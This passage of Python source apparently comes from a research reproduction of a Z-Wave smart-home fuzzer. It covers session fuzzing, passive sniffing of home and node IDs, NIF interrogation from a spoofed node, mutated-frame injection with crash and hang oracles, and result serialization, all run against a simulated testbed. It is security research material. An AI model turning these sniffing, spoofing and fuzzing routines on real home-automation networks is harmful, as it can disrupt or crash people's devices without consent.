    plan: Optional[SessionPlan] = None,
) -> SessionResult:
    """Fuzz one flow: probe the directed corpus, then follow novelty.

    The first window replays the protocol-guided corpus (*probe*); each
    later window of ``plan.batch_trials`` trials runs as *exploit* (with
    ``plan.exploit_boost`` extra havoc ops per trial) when the previous
    window grew the state×transition bitmap, else as *explore*.  The
    whole loop is a pure function of ``(device, flow, plan, seed)``.
    """
    plan = plan or default_session_plan()
    plan.validate()
    schedule = SessionSchedule(flow, plan, derive_seed(seed, f"session.{device}"))
    collector = MetricsCollector()
    bugs: List[SessionBugRecord] = []
    seen_vulns = set()
    trajectory: List[Tuple[str, int, str]] = []
    op_counts: Dict[str, int] = {}
    energy_trace: List[Tuple[str, int, str]] = []
    total = schedule.total_trials
    probe = len(schedule.corpus)
    trial = 0
    window_was_novel = False
    with collecting(collector):
        while trial < total:
            if trial < probe:
                reason, end = REASON_PROBE, probe
            elif window_was_novel:
                reason, end = REASON_EXPLOIT, min(trial + plan.batch_trials, total)
            else:
                reason, end = REASON_EXPLORE, min(trial + plan.batch_trials, total)
            novel = 0
            for t in range(trial, end):
                ops = schedule.trial_ops(t)
                if reason == REASON_EXPLOIT:
                    ops += schedule.havoc_ops(t)
                events = apply_ops(flow, ops)
                size_before = collector.coverage_size()
                evaluation = evaluate_trace(flow, events)
                if collector.coverage_size() > size_before:
                    novel += 1
                    collector.inc("session.coverage_novel_trials")
                for vuln, index in evaluation.findings:
                    collector.inc(f"session.bugs.fired.{vuln.vuln_id}")
                    if vuln.vuln_id not in seen_vulns:
                        seen_vulns.add(vuln.vuln_id)
                        collector.inc("session.bugs.unique")
                        bugs.append(
                            SessionBugRecord(
                                flow=flow,
                                trial=t,
                                sequence_index=index,
                                vuln_id=vuln.vuln_id,
                                state=evaluation.frames[index].state,
                            )
                        )
                label = schedule.trial_label(t) or (
                    "+".join(op.kind for op in ops) if ops else "happy"
                )
                trajectory.append((flow, t, label))
                for op in ops:
                    op_counts[op.kind] = op_counts.get(op.kind, 0) + 1
                collector.inc("session.trials")
                collector.observe("session.ops_per_trial", len(ops))
                collector.observe("session.events_per_trial", len(events))
            collector.inc(f"session.energy.{flow}", end - trial)
            collector.inc(f"session.windows.{reason}")
            energy_trace.append((flow, end - trial, reason))
            window_was_novel = novel > 0
            trial = end
        collector.inc(
            f"session.transitions.{flow}", collector.covered_transitions(flow)
        )
    return SessionResult(
        device=device,
        seed=seed,
        flows=(flow,),
        trials_by_flow={flow: total},
        op_counts={k: op_counts[k] for k in sorted(op_counts)},
        trajectory=tuple(trajectory),
        bugs=tuple(bugs),
        energy_trace=tuple(energy_trace),
        metrics=collector.snapshot(),
    )


def run_sessions(
    device: str,
    flows: Optional[Sequence[str]] = None,
    seed: int = 0,
    plan: Optional[SessionPlan] = None,
    workers: int = 1,
) -> SessionResult:
    """Fuzz every requested flow, sharded one unit per flow.

    Serial and pooled execution take the same unit path
    (:func:`repro.core.parallel.execute_units`), and pooled results cross
    the process boundary in wire v5 form, so ``workers=N`` output is
    byte-identical to ``workers=1``.
    """
    from .parallel import CampaignUnit, execute_units

    plan = plan or default_session_plan()
    plan.validate()
    chosen = tuple(flows) if flows else FLOWS
    for flow in chosen:
        flow_graph(flow)  # validates the name
    plan_json = dumps_session_plan(plan)
    units = [
        CampaignUnit(
            device=device,
            seed=seed,
            kind="sessions",
            flow=flow,
            session_plan_json=plan_json,
        )
        for flow in chosen
    ]
    outcomes = execute_units(units, workers=workers)
    results: List[SessionResult] = []
    for outcome in outcomes:
        if outcome.result is None:
            failure = outcome.failure.render() if outcome.failure else "unknown"
            raise CampaignError(f"session unit failed: {failure}")
        results.append(outcome.result)
    return merge_session_results(results)


def session_plan_with_trials(trials: Optional[int]) -> SessionPlan:
    """The stock plan, with the trial budget overridden when given."""
    base = default_session_plan()
    if trials is None:
        return base
    return replace(base, trials=trials)
