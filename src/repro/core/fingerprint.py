"""Phase 1 — known properties fingerprinting (Section III-B).

Two scanners share the attacker's transceiver:

* :class:`PassiveScanner` implements Figure 4's three steps — packet
  capturing (sniff the medium, discard undecodable noise), packet
  dissection (raw bits → hex fields) and packet analysis (extract the home
  ID and the node IDs behind the busiest exchange).
* :class:`ActiveScanner` interrogates the identified controller with NIF
  requests and parses the listed command classes out of the report.

Neither scanner needs privileged network access: S2 encrypts only the APL
payload, so every field the passive scanner reads travels in the clear.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass
from typing import List, Optional, Tuple

from ..errors import FuzzerError, TransceiverError
from ..obs import metrics as obs
from ..obs.tracing import span
from ..radio.clock import SimClock
from ..radio.transceiver import CapturedFrame, Transceiver
from ..zwave.application import ApplicationPayload
from ..zwave.frame import ZWaveFrame
from ..zwave.nif import NodeInfo, encode_nif_request, parse_nif_report
from .properties import ControllerProperties

#: Spoofed source node id the scanners inject with (an unused slot).
SCANNER_NODE_ID = 0x0F


@dataclass(frozen=True)
class PassiveScanResult:
    """Outcome of one passive scanning session."""

    home_id: int
    controller_node_id: int
    node_ids: Tuple[int, ...]
    frames_seen: int
    frames_decoded: int

    @property
    def network_summary(self) -> str:
        return (
            f"home id 0x{self.home_id:08X}, controller node "
            f"0x{self.controller_node_id:02X}, {len(self.node_ids)} node(s) observed"
        )


class PassiveScanner:
    """Sniff Z-Wave traffic and recover network identifiers (Figure 4)."""

    def __init__(self, dongle: Transceiver, clock: SimClock):
        if not dongle.configured:
            raise TransceiverError(
                "configure the transceiver (region + rate) before scanning"
            )
        self._dongle = dongle
        self._clock = clock

    def scan(self, duration: float = 120.0) -> PassiveScanResult:
        """Listen for *duration* seconds and analyse whatever was heard."""
        self._dongle.clear_captures()
        self._clock.advance(duration)
        captures = self._dongle.drain_captures()
        return self.analyze(captures)

    def analyze(self, captures: List[CapturedFrame]) -> PassiveScanResult:
        """Steps 2-3 of Figure 4: dissect captures, extract identifiers."""
        decoded = [c.frame for c in captures if c.frame is not None]
        obs.inc("fingerprint.frames_seen", len(captures))
        obs.inc("fingerprint.frames_decoded", len(decoded))
        if not decoded:
            raise FuzzerError(
                "passive scan heard no decodable Z-Wave traffic; "
                "is the network quiet or the dongle out of range?"
            )
        home_counter: Counter = Counter(f.home_id for f in decoded)
        home_id, _ = home_counter.most_common(1)[0]
        network = [f for f in decoded if f.home_id == home_id]
        node_ids = set()
        endpoint_score: Counter = Counter()
        for frame in network:
            for node in (frame.src, frame.dst):
                if 1 <= node <= 232:
                    node_ids.add(node)
                    endpoint_score[node] += 1
        if not endpoint_score:
            raise FuzzerError("no addressable nodes observed in the captured traffic")
        # The controller is the node participating in the most exchanges —
        # it is the hub of the star-shaped application traffic.
        controller_node_id, _ = endpoint_score.most_common(1)[0]
        return PassiveScanResult(
            home_id=home_id,
            controller_node_id=controller_node_id,
            node_ids=tuple(sorted(node_ids)),
            frames_seen=len(captures),
            frames_decoded=len(decoded),
        )


@dataclass(frozen=True)
class ActiveScanResult:
    """Outcome of NIF interrogation (Section III-B2)."""

    node_info: NodeInfo
    listed_cmdcls: Tuple[int, ...]
    probes_sent: int


class ActiveScanner:
    """Request the controller's listed command classes through a NIF."""

    #: How long to wait for the NIF report after a request.
    RESPONSE_TIMEOUT = 2.0
    MAX_RETRIES = 3

    def __init__(self, dongle: Transceiver, clock: SimClock):
        self._dongle = dongle
        self._clock = clock

    def interrogate(
        self, home_id: int, controller_node_id: int
    ) -> ActiveScanResult:
        """Send NIF requests until the controller's report comes back."""
        probes = 0
        for _ in range(self.MAX_RETRIES):
            probes += 1
            obs.inc("fingerprint.nif_probes")
            self._dongle.clear_captures()
            request = ZWaveFrame(
                home_id=home_id,
                src=SCANNER_NODE_ID,
                dst=controller_node_id,
                payload=encode_nif_request().encode(),
            )
            self._dongle.inject(request)
            self._clock.advance(self.RESPONSE_TIMEOUT)
            report = self._find_nif_report(controller_node_id)
            if report is not None:
                return ActiveScanResult(
                    node_info=report,
                    listed_cmdcls=report.listed_cmdcls,
                    probes_sent=probes,
                )
        raise FuzzerError(
            f"controller node {controller_node_id:#04x} never answered the NIF request"
        )

    def _find_nif_report(self, controller_node_id: int) -> Optional[NodeInfo]:
        for capture in self._dongle.captures():
            frame = capture.frame
            if frame is None or frame.src != controller_node_id or not frame.payload:
                continue
            try:
                payload = ApplicationPayload.decode(frame.payload)
            except Exception:
                continue
            info = parse_nif_report(payload)
            if info is not None:
                return info
        return None


def fingerprint(
    dongle: Transceiver,
    clock: SimClock,
    passive_duration: float = 120.0,
) -> ControllerProperties:
    """Run the full phase-1 pipeline: passive scan, then NIF interrogation."""
    with span("fingerprint.passive"):
        passive = PassiveScanner(dongle, clock).scan(passive_duration)
    with span("fingerprint.active"):
        active = ActiveScanner(dongle, clock).interrogate(
            passive.home_id, passive.controller_node_id
        )
    return ControllerProperties(
        home_id=passive.home_id,
        controller_node_id=passive.controller_node_id,
        observed_node_ids=frozenset(passive.node_ids),
        listed_cmdcls=tuple(sorted(active.listed_cmdcls)),
    )
