"""The ZCover fuzzing engine — Algorithm 1 of the paper.

The engine walks a prioritised queue of command classes, drives the
position-sensitive mutator for each, injects every test case over the
attacker's dongle, and runs the three oracles (memory, host, liveness)
after each packet.  A command class keeps its slot for as long as it keeps
producing findings: the C_T window restarts on every new bug, and only an
entirely quiet window moves the queue forward — the "if no crash occurs for
the current CMDCL after C_T" rule.

Timing reproduces the paper's throughput: one test packet every 0.75
simulated seconds ≈ 800 packets in the first 600 seconds (Figure 12).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable, Iterator, List, Optional, Sequence, Set, Tuple

from ..errors import FrameTooLargeError
from ..faults.injector import AbortSignal
from ..obs import metrics as obs
from ..obs.tracing import span
from ..radio.clock import SimClock
from ..simulator.testbed import SystemUnderTest
from ..zwave import constants as const
from ..zwave.checksum import cs8
from .buglog import BugLog, BugRecord
from .fingerprint import SCANNER_NODE_ID
from .monitor import LivenessMonitor, Observation, ObservedKind, SutObserver
from .mutation import TestCase


@dataclass(frozen=True)
class FuzzerConfig:
    """Tunable knobs of the engine (Algorithm 1 inputs)."""

    cmdcl_time: float = 60.0  # C_T: quiet time before moving on
    packet_period: float = 0.75  # full send/observe budget per test
    settle_time: float = 0.1  # wait after injection before oracles run
    ping_timeout: float = 0.5
    recovery_time: float = 2.0
    requeue: bool = True  # restart the queue for long trials


@dataclass(frozen=True)
class DetectionMark:
    """One red cross of Figure 12."""

    timestamp: float
    packet_no: int
    cmdcl: int
    observed: str


@dataclass(frozen=True)
class TimelinePoint:
    """One sample of the packets-over-time curve of Figure 12."""

    timestamp: float
    packets: int
    detections: int


@dataclass
class FuzzResult:
    """Everything one engine run produced."""

    packets_sent: int = 0
    duration: float = 0.0
    bug_log: BugLog = field(default_factory=BugLog)
    detections: List[DetectionMark] = field(default_factory=list)
    timeline: List[TimelinePoint] = field(default_factory=list)
    cmdcls_used: Set[int] = field(default_factory=set)
    cmds_used: Set[int] = field(default_factory=set)
    windows_completed: int = 0

    @property
    def cmdcl_coverage(self) -> int:
        """Distinct command classes exercised (Table V)."""
        return len(self.cmdcls_used)

    @property
    def cmd_coverage(self) -> int:
        """Distinct command identifiers exercised (Table V)."""
        return len(self.cmds_used)


#: A unit of work: a labelled test-case stream with an optional C_T window.
Stream = Tuple[int, Iterator[TestCase], Optional[float]]


class FuzzingEngine:
    """Drives test cases into a SUT and watches the oracles."""

    TIMELINE_STRIDE = 10  # sample the packet curve every N packets

    def __init__(
        self,
        sut: SystemUnderTest,
        config: Optional[FuzzerConfig] = None,
    ):
        self._sut = sut
        self._clock: SimClock = sut.clock
        self.config = config or FuzzerConfig()
        self._monitor = LivenessMonitor(
            sut.dongle,
            sut.clock,
            sut.profile.home_id,
            sut.controller.node_id,
            timeout=self.config.ping_timeout,
        )
        self._observer = SutObserver(sut, recovery_time=self.config.recovery_time)
        self._sequence = 0
        # Injected frames differ only in sequence, payload and the derived
        # LEN/CS bytes; the header prefix up to P1 is baked once so the hot
        # path splices raw buffers instead of round-tripping a frame object.
        self._inject_prefix = sut.profile.home_id.to_bytes(4, "big") + bytes(
            (
                SCANNER_NODE_ID,
                const.P1_ACK_REQUEST_FLAG | const.HeaderType.SINGLECAST,
            )
        )
        self._inject_dst = sut.controller.node_id

    @property
    def observer(self) -> SutObserver:
        return self._observer

    @property
    def monitor(self) -> LivenessMonitor:
        return self._monitor

    # -- the main loop (Algorithm 1) -------------------------------------------

    def run(self, streams: Iterable[Stream], duration: float) -> FuzzResult:
        """Fuzz until *duration* simulated seconds elapse or streams end.

        A planned :class:`AbortSignal` (repro.faults campaign abort) ends
        the run early but cleanly: bookkeeping is finished and the partial
        result returned, for the campaign layer to tag as degraded.
        """
        result = FuzzResult()
        start = self._clock.now
        try:
            self._run_streams(streams, start + duration, result, start)
        except AbortSignal:
            obs.inc("fuzzer.aborted")
        result.duration = self._clock.now - start
        result.timeline.append(
            TimelinePoint(result.duration, result.packets_sent, len(result.detections))
        )
        return result

    def _run_streams(
        self,
        streams: Iterable[Stream],
        deadline: float,
        result: FuzzResult,
        start: float,
    ) -> None:
        seen_groups: set = set()
        for cmdcl_label, generator, window in streams:
            if self._clock.now >= deadline:
                break
            label = f"0x{cmdcl_label:02x}" if cmdcl_label >= 0 else "random"
            window_anchor = self._clock.now
            with span("fuzzer.window", cmdcl=label):
                for case in generator:
                    if self._clock.now >= deadline:
                        break
                    test_start = self._clock.now
                    payload = self._inject(case, result)
                    observation = self._observe()
                    if observation.finding:
                        self._record(case, payload, observation, result, start)
                        self._recover(observation)
                        # Only a *novel* finding keeps the class on the fuzzing
                        # slot; re-triggering known crashes must not starve the
                        # rest of the queue.
                        group = (
                            case.payload.cmdcl,
                            case.payload.cmd,
                            observation.kind.value,
                        )
                        if group not in seen_groups:
                            seen_groups.add(group)
                            window_anchor = self._clock.now
                    self._pad(test_start)
                    self._sample_timeline(result, start)
                    if (
                        window is not None
                        and self._clock.now - window_anchor >= window
                    ):
                        break
            result.windows_completed += 1
            obs.inc("fuzzer.windows")

    # -- helpers --------------------------------------------------------------------

    def _inject(self, case: TestCase, result: FuzzResult) -> bytes:
        """Send one test case; returns its encoded payload for reuse.

        The case is encoded exactly once per injection — the bytes are
        handed back so :meth:`_record` never re-encodes on a finding.
        """
        self._sequence = (self._sequence + 1) % 16
        payload = case.encode()
        obs.inc("fuzzer.frames_tx")
        obs.observe("fuzzer.payload_len", len(payload))
        # Raw-buffer splice of what ZWaveFrame(...).encode() would build:
        # prefix | P2(seq) | LEN | DST | payload | CS8 — byte-identical,
        # without a frame object per test case.
        total = const.MAC_HEADER_SIZE + len(payload) + const.CS8_TRAILER_SIZE
        if total > const.MAX_MAC_FRAME_SIZE:
            raise FrameTooLargeError(
                f"frame of {total} bytes exceeds the {const.MAX_MAC_FRAME_SIZE}-byte maximum"
            )
        body = (
            self._inject_prefix
            + bytes((self._sequence, total, self._inject_dst))
            + payload
        )
        self._sut.dongle.inject_raw(body + bytes((cs8(body),)))
        self._clock.advance(self.config.settle_time)
        result.packets_sent += 1
        result.cmdcls_used.add(case.payload.cmdcl)
        if case.payload.cmd is not None:
            result.cmds_used.add(case.payload.cmd)
        return payload

    def _observe(self) -> Observation:
        memory_kind, changes = self._observer.check_memory()
        if memory_kind is not None:
            return Observation(responsive=True, kind=memory_kind, memory_changes=changes)
        host_kind = self._observer.check_host()
        if host_kind is not None:
            return Observation(responsive=True, kind=host_kind)
        if not self._monitor.ping() and not self._monitor.ping():
            return Observation(responsive=False, kind=ObservedKind.HANG)
        return Observation(responsive=True)

    def _record(
        self,
        case: TestCase,
        payload: bytes,
        observation: Observation,
        result: FuzzResult,
        start: float,
    ) -> None:
        record = BugRecord.from_payload(
            timestamp=self._clock.now - start,
            packet_no=result.packets_sent,
            payload=payload,
            observed=observation.kind,
        )
        result.bug_log.add(record)
        obs.inc("fuzzer.detections")
        obs.inc(f"fuzzer.detections.{observation.kind.value}")
        result.detections.append(
            DetectionMark(
                timestamp=self._clock.now - start,
                packet_no=result.packets_sent,
                cmdcl=case.payload.cmdcl,
                observed=observation.kind.value,
            )
        )

    def _recover(self, observation: Observation) -> None:
        if observation.kind is ObservedKind.HANG:
            obs.inc("fuzzer.recovery.power_cycle")
            self._observer.power_cycle()
        elif observation.kind in (ObservedKind.HOST_CRASH, ObservedKind.HOST_DOS):
            obs.inc("fuzzer.recovery.restart_host")
            self._observer.restart_host()
        else:
            obs.inc("fuzzer.recovery.restore_memory")
            self._observer.restore_memory()

    def _pad(self, test_start: float) -> None:
        elapsed = self._clock.now - test_start
        remaining = self.config.packet_period - elapsed
        if remaining > 0:
            self._clock.advance(remaining)

    def _sample_timeline(self, result: FuzzResult, start: float) -> None:
        if result.packets_sent % self.TIMELINE_STRIDE == 0:
            result.timeline.append(
                TimelinePoint(
                    self._clock.now - start,
                    result.packets_sent,
                    len(result.detections),
                )
            )


def psm_streams(
    queue: Sequence[int],
    mutator,
    window: float,
    requeue: bool,
) -> Iterator[Stream]:
    """Streams for the position-sensitive modes: one window per CMDCL.

    With *requeue* the queue restarts indefinitely (long trials keep
    fuzzing after the first full pass, as in the paper's 24-hour runs).
    """
    while True:
        for cmdcl in queue:
            yield cmdcl, mutator.generate(cmdcl), window
        if not requeue:
            return


def random_stream(mutator) -> Iterator[Stream]:
    """The single free-running stream of the γ ablation."""
    yield -1, mutator.generate(), None
