"""Lossless wire serialisation and deterministic merging of results.

Campaign results must cross process boundaries when trials are sharded
across workers (:mod:`repro.core.parallel`).  Pickling the live objects
would work, but it is fragile — any future field holding a
:class:`~repro.zwave.registry.SpecRegistry`, a simulator handle or an open
generator would silently drag megabytes (or fail outright) through every
worker pipe.  Instead, workers reduce their results to a *wire form*: a
tree of plain dicts, lists, strings and numbers that is JSON-serialisable
by construction, so nothing that is not plain data can cross by accident.

The round trip is **lossless**: ``campaign_from_wire(campaign_to_wire(r))``
compares equal to ``r`` and renders byte-identical reports, which is what
lets the parallel executor guarantee output identical to a serial run
(``tests/test_parallel_determinism.py`` is the proof).

The second half of this module is the deterministic merge: shard outcomes
are reassembled in canonical seed order — the order the serial loop would
have produced them — regardless of worker completion order.
"""

from __future__ import annotations

import json
from typing import Any, List, Optional, Sequence, Tuple

from ..faults.plan import DegradationRecord
from ..obs.metrics import MetricsSnapshot, SpanStats
from ..serve.protocol import JobSpec, JobStatus
from .baseline import VFuzzResult
from .buglog import BugLog, BugRecord
from .campaign import CampaignResult, Mode
from .fuzzer import DetectionMark, FuzzResult, TimelinePoint
from .monitor import ObservedKind
from .properties import ControllerProperties
from .session import SessionBugRecord, SessionResult
from .tester import Signature, VerifiedFinding, VerifiedUnique

#: Wire-format version, bumped on incompatible layout changes so stale
#: shards from a different code revision are rejected instead of merged.
#: v2 added the per-campaign ``metrics`` snapshot (repro.obs); v3 the
#: ``degradation`` record (repro.faults graceful degradation); v4 the
#: ``scheduler`` knob and ``scheduler_trace`` decision log
#: (repro.core.scheduler); v5 the session-fuzzer payloads
#: (``SessionResult``/``SessionBugRecord``, repro.core.session); v6 the
#: job-service codecs (``JobSpec``/``JobStatus``, repro.serve).
WIRE_VERSION = 6


class WireError(ValueError):
    """A wire payload does not match the expected layout or version."""


class WireVersionError(WireError):
    """A wire payload's version does not match this build's codec.

    Every decoder rejects mismatches *structurally* — ``found`` /
    ``expected`` / ``context`` — and distinguishes a payload from a
    **newer** build (a client ahead of the service, or vice versa) from a
    stale one, so operators can tell "upgrade me" from "re-run that".
    Before this check was centralised, a decoder comparing only equality
    produced the same opaque message for both directions, and any decoder
    that forgot the check would happily misparse a future layout.
    """

    def __init__(self, found: object, expected: int, context: str):
        self.found = found
        self.expected = expected
        self.context = context
        if isinstance(found, int) and found > expected:
            detail = (
                f"payload is from a NEWER wire format (v{found} > v{expected}): "
                "upgrade this build before decoding it"
            )
        elif found is None:
            detail = f"payload carries no wire_version (expected v{expected})"
        else:
            detail = f"stale wire version {found!r} != expected v{expected}"
        super().__init__(f"{context}: {detail}")


def require_wire_version(data: dict, context: str) -> None:
    """Reject any payload whose ``wire_version`` is not exactly ours.

    Shared by every ``*_from_wire`` decoder: unknown *future* versions
    fail just as loudly as stale ones (an old service must never misparse
    a new client's documents, nor the reverse).
    """
    found = data.get("wire_version")
    if found != WIRE_VERSION:
        raise WireVersionError(found, WIRE_VERSION, context)


# -- controller properties -----------------------------------------------------


def properties_to_wire(props: Optional[ControllerProperties]) -> Optional[dict]:
    """Reduce fingerprint/discovery properties to plain data."""
    if props is None:
        return None
    return {
        "home_id": props.home_id,
        "controller_node_id": props.controller_node_id,
        "observed_node_ids": sorted(props.observed_node_ids),
        "listed_cmdcls": list(props.listed_cmdcls),
        "unlisted_candidates": list(props.unlisted_candidates),
        "validated_unknown": list(props.validated_unknown),
        "proprietary": list(props.proprietary),
    }


def properties_from_wire(data: Optional[dict]) -> Optional[ControllerProperties]:
    """Rebuild :class:`ControllerProperties` from its wire form."""
    if data is None:
        return None
    return ControllerProperties(
        home_id=data["home_id"],
        controller_node_id=data["controller_node_id"],
        observed_node_ids=frozenset(data["observed_node_ids"]),
        listed_cmdcls=tuple(data["listed_cmdcls"]),
        unlisted_candidates=tuple(data["unlisted_candidates"]),
        validated_unknown=tuple(data["validated_unknown"]),
        proprietary=tuple(data["proprietary"]),
    )


# -- metrics snapshots ---------------------------------------------------------


def snapshot_to_wire(snapshot: Optional[MetricsSnapshot]) -> Optional[dict]:
    """Reduce an observability snapshot to plain data."""
    if snapshot is None:
        return None
    return {
        "counters": dict(snapshot.counters),
        "gauges": dict(snapshot.gauges),
        "histograms": {k: dict(v) for k, v in snapshot.histograms.items()},
        "coverage": dict(snapshot.coverage),
        "spans": {k: [s.count, s.sim_time_us] for k, s in snapshot.spans.items()},
    }


def snapshot_from_wire(data: Optional[dict]) -> Optional[MetricsSnapshot]:
    """Rebuild a :class:`MetricsSnapshot` from its wire form."""
    if data is None:
        return None
    return MetricsSnapshot(
        counters=dict(data["counters"]),
        gauges=dict(data["gauges"]),
        histograms={k: dict(v) for k, v in data["histograms"].items()},
        coverage=dict(data["coverage"]),
        spans={
            k: SpanStats(count=count, sim_time_us=sim_time_us)
            for k, (count, sim_time_us) in data["spans"].items()
        },
    )


# -- fuzz results --------------------------------------------------------------


def fuzz_to_wire(fuzz: FuzzResult) -> dict:
    """Reduce an engine run (log, detections, timeline) to plain data."""
    return {
        "packets_sent": fuzz.packets_sent,
        "duration": fuzz.duration,
        "bug_log": [
            {
                "timestamp": r.timestamp,
                "packet_no": r.packet_no,
                "cmdcl": r.cmdcl,
                "cmd": r.cmd,
                "payload_hex": r.payload_hex,
                "observed": r.observed,
            }
            for r in fuzz.bug_log
        ],
        "detections": [
            [d.timestamp, d.packet_no, d.cmdcl, d.observed] for d in fuzz.detections
        ],
        "timeline": [[p.timestamp, p.packets, p.detections] for p in fuzz.timeline],
        "cmdcls_used": sorted(fuzz.cmdcls_used),
        "cmds_used": sorted(fuzz.cmds_used),
        "windows_completed": fuzz.windows_completed,
    }


def fuzz_from_wire(data: dict) -> FuzzResult:
    """Rebuild a :class:`FuzzResult` from its wire form."""
    return FuzzResult(
        packets_sent=data["packets_sent"],
        duration=data["duration"],
        bug_log=BugLog([BugRecord(**record) for record in data["bug_log"]]),
        detections=[
            DetectionMark(timestamp=t, packet_no=n, cmdcl=c, observed=o)
            for t, n, c, o in data["detections"]
        ],
        timeline=[
            TimelinePoint(timestamp=t, packets=p, detections=d)
            for t, p, d in data["timeline"]
        ],
        cmdcls_used=set(data["cmdcls_used"]),
        cmds_used=set(data["cmds_used"]),
        windows_completed=data["windows_completed"],
    )


# -- verified findings ---------------------------------------------------------


def _unique_to_wire(signature: Signature, unique: VerifiedUnique) -> dict:
    finding = unique.finding
    return {
        "signature": list(signature),
        "payload_hex": finding.payload_hex,
        "cmdcl": finding.cmdcl,
        "cmd": finding.cmd,
        "kind": finding.kind.value,
        "duration_s": finding.duration_s,
        "first_detection_time": unique.first_detection_time,
        "first_detection_packet": unique.first_detection_packet,
    }


def _unique_from_wire(data: dict) -> Tuple[Signature, VerifiedUnique]:
    signature: Signature = tuple(data["signature"])  # type: ignore[assignment]
    finding = VerifiedFinding(
        payload_hex=data["payload_hex"],
        cmdcl=data["cmdcl"],
        cmd=data["cmd"],
        kind=ObservedKind(data["kind"]),
        duration_s=data["duration_s"],
    )
    unique = VerifiedUnique(
        finding=finding,
        first_detection_time=data["first_detection_time"],
        first_detection_packet=data["first_detection_packet"],
    )
    return signature, unique


# -- whole campaigns -----------------------------------------------------------


def campaign_to_wire(result: CampaignResult) -> dict:
    """Reduce a campaign result to plain JSON-serialisable data."""
    return {
        "wire_version": WIRE_VERSION,
        "device": result.device,
        "mode": result.mode.name,
        "duration": result.duration,
        "properties": properties_to_wire(result.properties),
        "fuzz": fuzz_to_wire(result.fuzz),
        "unique": [
            _unique_to_wire(signature, unique)
            for signature, unique in result.unique.items()
        ],
        "metrics": snapshot_to_wire(result.metrics),
        "degradation": None
        if result.degradation is None
        else result.degradation.to_wire(),
        "scheduler": result.scheduler,
        "scheduler_trace": [
            [cmdcl, window_s, reason]
            for cmdcl, window_s, reason in result.scheduler_trace
        ],
    }


def campaign_from_wire(data: dict) -> CampaignResult:
    """Rebuild the full campaign result from its wire form."""
    require_wire_version(data, "campaign result")
    degradation = data.get("degradation")
    return CampaignResult(
        device=data["device"],
        mode=Mode[data["mode"]],
        duration=data["duration"],
        properties=properties_from_wire(data["properties"]),
        fuzz=fuzz_from_wire(data["fuzz"]),
        unique=dict(_unique_from_wire(entry) for entry in data["unique"]),
        metrics=snapshot_from_wire(data.get("metrics")),
        degradation=None
        if degradation is None
        else DegradationRecord.from_wire(degradation),
        scheduler=data["scheduler"],
        scheduler_trace=tuple(
            (cmdcl, window_s, reason)
            for cmdcl, window_s, reason in data["scheduler_trace"]
        ),
    )


# -- VFuzz baseline results ----------------------------------------------------


def vfuzz_to_wire(result: VFuzzResult) -> dict:
    """Reduce a Table V baseline run to plain data."""
    return {
        "wire_version": WIRE_VERSION,
        "packets_sent": result.packets_sent,
        "duration": result.duration,
        "accepted_estimate": result.accepted_estimate,
        "quirks_found": list(result.quirks_found),
        "zero_day_payloads": [p.hex() for p in result.zero_day_payloads],
        "cmdcls_used": sorted(result.cmdcls_used),
        "cmds_used": sorted(result.cmds_used),
        "detections": [[t, n] for t, n in result.detections],
        "metrics": snapshot_to_wire(result.metrics),
    }


def vfuzz_from_wire(data: dict) -> VFuzzResult:
    """Rebuild a :class:`VFuzzResult`, rejecting mismatched versions."""
    require_wire_version(data, "vfuzz result")
    return VFuzzResult(
        packets_sent=data["packets_sent"],
        duration=data["duration"],
        accepted_estimate=data["accepted_estimate"],
        quirks_found=list(data["quirks_found"]),
        zero_day_payloads=[bytes.fromhex(p) for p in data["zero_day_payloads"]],
        cmdcls_used=set(data["cmdcls_used"]),
        cmds_used=set(data["cmds_used"]),
        detections=[(t, n) for t, n in data["detections"]],
        metrics=snapshot_from_wire(data.get("metrics")),
    )


# -- session-fuzzer results ----------------------------------------------------


def session_bug_to_wire(bug: SessionBugRecord) -> list:
    """Reduce one planted-bug discovery to plain data."""
    return [bug.flow, bug.trial, bug.sequence_index, bug.vuln_id, bug.state]


def session_bug_from_wire(data: Sequence) -> SessionBugRecord:
    """Rebuild a :class:`SessionBugRecord` from its wire form."""
    flow, trial, sequence_index, vuln_id, state = data
    return SessionBugRecord(
        flow=flow,
        trial=trial,
        sequence_index=sequence_index,
        vuln_id=vuln_id,
        state=state,
    )


def session_to_wire(result: SessionResult) -> dict:
    """Reduce a session-fuzzer result to plain JSON-serialisable data."""
    return {
        "wire_version": WIRE_VERSION,
        "kind": "sessions",
        "device": result.device,
        "seed": result.seed,
        "flows": list(result.flows),
        "trials_by_flow": dict(result.trials_by_flow),
        "op_counts": dict(result.op_counts),
        "trajectory": [[flow, trial, label] for flow, trial, label in result.trajectory],
        "bugs": [session_bug_to_wire(bug) for bug in result.bugs],
        "energy_trace": [
            [flow, trials, reason] for flow, trials, reason in result.energy_trace
        ],
        "metrics": snapshot_to_wire(result.metrics),
    }


def session_from_wire(data: dict) -> SessionResult:
    """Rebuild a :class:`SessionResult`, rejecting mismatched versions."""
    require_wire_version(data, "session result")
    return SessionResult(
        device=data["device"],
        seed=data["seed"],
        flows=tuple(data["flows"]),
        trials_by_flow=dict(data["trials_by_flow"]),
        op_counts=dict(data["op_counts"]),
        trajectory=tuple(
            (flow, trial, label) for flow, trial, label in data["trajectory"]
        ),
        bugs=tuple(session_bug_from_wire(entry) for entry in data["bugs"]),
        energy_trace=tuple(
            (flow, trials, reason) for flow, trials, reason in data["energy_trace"]
        ),
        metrics=snapshot_from_wire(data.get("metrics")),
    )


# -- job-service specs and statuses (repro.serve) ------------------------------


def jobspec_to_wire(spec: JobSpec) -> dict:
    """Reduce a job-service :class:`JobSpec` to plain data (wire v6)."""
    return {
        "wire_version": WIRE_VERSION,
        "kind": spec.kind,
        "device": spec.device,
        "mode": spec.mode,
        "seed": spec.seed,
        "trials": spec.trials,
        "hours": spec.hours,
        "scheduler": spec.scheduler,
        "fault_plan": spec.fault_plan,
        "flows": list(spec.flows),
    }


def jobspec_from_wire(data: dict) -> JobSpec:
    """Rebuild a :class:`JobSpec`, rejecting mismatched wire versions.

    Layout validation beyond the version check is the caller's job
    (:func:`repro.serve.protocol.validate_spec`) — this codec only
    guarantees both sides agree on the wire format itself.
    """
    require_wire_version(data, "job spec")
    return JobSpec(
        kind=data["kind"],
        device=data["device"],
        mode=data["mode"],
        seed=data["seed"],
        trials=data["trials"],
        hours=data["hours"],
        scheduler=data["scheduler"],
        fault_plan=data["fault_plan"],
        flows=tuple(data["flows"]),
    )


def jobstatus_to_wire(status: JobStatus) -> dict:
    """Reduce a job-service :class:`JobStatus` to plain data (wire v6)."""
    return {
